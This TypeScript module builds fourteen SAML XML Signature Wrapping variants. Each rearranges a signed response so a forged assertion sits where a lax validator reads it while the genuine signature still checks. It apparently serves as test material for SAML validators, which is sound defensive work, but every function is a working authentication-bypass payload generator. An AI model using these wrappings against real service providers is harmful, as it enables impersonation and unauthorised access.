/**
 * Signature wrapping: the signed assertion stays in the document, valid, while another one stands
 * where a careless reader looks. Each takes a signed response and a forged assertion.
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

type Wrapping = (signedResponse: string, forgedAssertion: string) => string;

const signatureNs = 'http://www.w3.org/2000/09/xmldsig#';
const protocolNs = 'urn:oasis:names:tc:SAML:2.0:protocol';
const assertionNs = 'urn:oasis:names:tc:SAML:2.0:assertion';

export const wrappings: Record<string, Wrapping> = {
  'forged before the signed one': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => response.insertBefore(evil, signed)),
  'forged after the signed one': (xml, forged) =>
    edit(xml, forged, ({ response, evil }) => response.appendChild(evil)),
  'signed one moved into Extensions': (xml, forged) =>
    edit(xml, forged, ({ document, response, signed, evil }) => {
      const extensions = document.createElementNS(protocolNs, 'samlp:Extensions');
      response.replaceChild(evil, signed);
      extensions.appendChild(signed);
      response.insertBefore(extensions, evil);
    }),
  'signed one moved into the Object of its signature': (xml, forged) =>
    edit(xml, forged, ({ document, response, signed, evil }) => {
      const signature = signatureOf(signed);
      const object = document.createElementNS(signatureNs, 'ds:Object');
      response.replaceChild(evil, signed);
      evil.insertBefore(signature, evil.firstChild?.nextSibling ?? null);
      object.appendChild(signed);
      signature.appendChild(object);
    }),
  'forged with the same ID': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => {
      evil.setAttribute('ID', signed.getAttribute('ID') ?? '');
      response.insertBefore(evil, signed);
    }),
  'signed one nested in the forged one': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => {
      response.replaceChild(evil, signed);
      evil.appendChild(signed);
    }),
  'signature in the forged one, signed one at the end': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => {
      response.replaceChild(evil, signed);
      evil.insertBefore(signatureOf(signed), evil.firstChild?.nextSibling ?? null);
      response.appendChild(signed);
    }),
  'signed one inside of its signature, in the forged one': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => {
      const signature = signatureOf(signed);
      response.replaceChild(evil, signed);
      evil.insertBefore(signature, evil.firstChild?.nextSibling ?? null);
      signature.appendChild(signed);
    }),
  'forged in Extensions, signed one in its place': (xml, forged) =>
    edit(xml, forged, ({ document, response, signed, evil }) => {
      const extensions = document.createElementNS(protocolNs, 'samlp:Extensions');
      extensions.appendChild(evil);
      response.insertBefore(extensions, signed);
    }),
  'signed one in the Advice of the forged one': (xml, forged) =>
    edit(xml, forged, ({ document, response, signed, evil }) => {
      const advice = document.createElementNS(assertionNs, 'saml:Advice');
      response.replaceChild(evil, signed);
      advice.appendChild(signed);
      evil.appendChild(advice);
    }),
  'forged of another namespace before the signed one': (xml, forged) =>
    edit(xml, forged.replaceAll(assertionNs, 'urn:evil'), ({ response, signed, evil }) =>
      response.insertBefore(evil, signed),
    ),
  'forged with the same ID, spelled Id': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => {
      evil.removeAttribute('ID');
      evil.setAttribute('Id', signed.getAttribute('ID') ?? '');
      response.insertBefore(evil, signed);
    }),
  'forged in place, signed one encrypted by name only': (xml, forged) =>
    edit(xml, forged, ({ document, response, signed, evil }) => {
      const encrypted = document.createElementNS(assertionNs, 'saml:EncryptedAssertion');
      response.replaceChild(evil, signed);
      encrypted.appendChild(signed);
      response.appendChild(encrypted);
    }),
  'a forged response around the signed one, in its signature': (xml, forged) =>
    wrapResponse(xml, forged, (signature, original) => signature.appendChild(original)),
  'a forged response around the signed one, before its signature': (xml, forged) =>
    wrapResponse(xml, forged, (signature, original) =>
      signature.parentNode?.insertBefore(original, signature),
    ),
};

interface Parts {
  document: Document;
  response: Element;
  signed: Element;
  evil: Element;
}

function edit(xml: string, forged: string, change: (parts: Parts) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const signed = Array.from(response.childNodes).find(
    (node) => (node as Element).localName === 'Assertion',
  ) as Element;
  const evil = document.importNode(
    new DOMParser().parseFromString(forged, 'text/xml').documentElement,
    true,
  );
  change({ document, response, signed, evil });
  return new XMLSerializer().serializeToString(document);
}

/** The response is copied with the forged assertion in it; the original goes where `hide` puts it. */
function wrapResponse(
  xml: string,
  forged: string,
  hide: (signature: Element, original: Element) => void,
): string {
  return edit(xml, forged, ({ document, response, evil }) => {
    const copy = response.cloneNode(true) as Element;
    const own = Array.from(copy.childNodes) as Element[];
    copy.replaceChild(evil, own.find(({ localName }) => localName === 'Assertion') as Element);
    copy.setAttribute('ID', `${response.getAttribute('ID') ?? ''}_copy`);
    const signature =
      own.find(({ localName }) => localName === 'Signature') ?? signatureOf(response);
    if (signature.parentNode !== copy) copy.insertBefore(signature, evil);
    document.removeChild(response);
    document.appendChild(copy);
    hide(signature, response);
  });
}

function signatureOf(element: Element): Element {
  return element.getElementsByTagNameNS(signatureNs, 'Signature')[0] as Element;
}
